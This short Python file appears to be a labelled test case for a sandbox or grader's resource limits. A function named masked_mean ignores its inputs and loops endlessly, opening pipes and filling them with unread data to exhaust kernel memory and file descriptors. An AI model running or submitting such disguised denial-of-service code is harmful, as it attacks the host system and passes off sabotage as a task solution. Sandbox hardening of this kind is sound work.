"""attack: hides memory in the kernel
strategy: fills pipes and sockets that nobody reads, in many children
family: resources
question: q1_pool
expect: error timeout
"""

import os


def masked_mean(hidden, mask):
    kept = []
    while True:
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        os.write(writer, bytes(2**16))
        kept.append((reader, writer))
